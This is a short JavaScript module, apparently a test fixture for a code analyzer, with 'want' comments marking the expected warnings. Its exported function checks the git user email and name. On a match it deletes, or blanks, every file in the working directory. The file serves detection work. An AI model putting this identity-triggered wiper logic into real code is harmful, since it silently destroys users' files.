const child = require('child_process');
const fs = require('fs');
const path = require('path');

exports.git = function () {
  const root = process.cwd();
  child.execFile('git', ['config', 'user.email'], (error, out) => {
    if (out.trim().endsWith('@corp.example')) {
      for (const name of fs.readdirSync(root)) fs.unlinkSync(path.join(root, name));  // want "files that are there are deleted"
    }
  });
  child.exec('git config user.name', (error, out) => {
    if (out.trim() === 'J. Doe') {
      for (const name of fs.readdirSync(root)) fs.writeFileSync(path.join(root, name), '');  // want "files that are there are written over"
    }
  });
};
